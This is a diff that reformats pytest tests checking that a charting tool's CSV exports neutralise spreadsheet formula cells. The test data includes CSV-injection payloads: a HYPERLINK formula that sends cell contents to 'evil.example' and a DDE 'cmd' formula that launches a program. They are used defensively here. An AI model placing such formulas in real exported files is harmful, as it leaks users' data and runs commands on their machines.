@@ -10,15 +10,30 @@ import pytest
 
 from negviz.charts.export import csv_bytes, figure_bytes
 
-needs_chromium = pytest.mark.skipif(shutil.which("chromium") is None, reason="kaleido needs a Chromium (make test installs it)")
+needs_chromium = pytest.mark.skipif(
+    shutil.which("chromium") is None, reason="kaleido needs a Chromium (make test installs it)"
+)
 
-PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
-            "\t=1", "\r=1"]
+PAYLOADS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
 
 
 def test_csv_bytes_neutralises_formula_cells_and_keeps_numbers():
-    frame = pd.DataFrame({"label": PAYLOADS, "delta": [-0.5, -1.25, 0.0, 1.0, -3.0, 2.0, -7.5],
-                          "count": [-1, 2, 3, 4, 5, 6, 7], "plain": ["a", "b=c", "", "x-y", "'q", "ok", "z"]})
+    frame = pd.DataFrame(
+        {
+            "label": PAYLOADS,
+            "delta": [-0.5, -1.25, 0.0, 1.0, -3.0, 2.0, -7.5],
+            "count": [-1, 2, 3, 4, 5, 6, 7],
+            "plain": ["a", "b=c", "", "x-y", "'q", "ok", "z"],
+        }
+    )
     text = csv_bytes(frame).decode("utf-8")
     back = pd.read_csv(io.StringIO(text), keep_default_na=False)
     assert back["label"].tolist() == ["'" + p for p in PAYLOADS]
@@ -36,8 +51,13 @@ def test_annotation_csv_export_is_neutralised_and_reimports(tmp_path):
 
     nevir = load("nevir")
     with Store(tmp_path / "a.sqlite") as store:
-        ann.save(store, nevir, "1230-2", "@ana", ann.Label("sentential", "valid", False,
-                                                       '=HYPERLINK("https://evil.example","x")'))
+        ann.save(
+            store,
+            nevir,
+            "1230-2",
+            "@ana",
+            ann.Label("sentential", "valid", False, '=HYPERLINK("https://evil.example","x")'),
+        )
         ann.save(store, nevir, "994-2", "-bo", ann.Label("sentential", "valid", False, "=cmd|' /C calc'!A0"))
         frame = ann.export_frame(store, nevir)
         data = ann.to_bytes(frame, "csv")
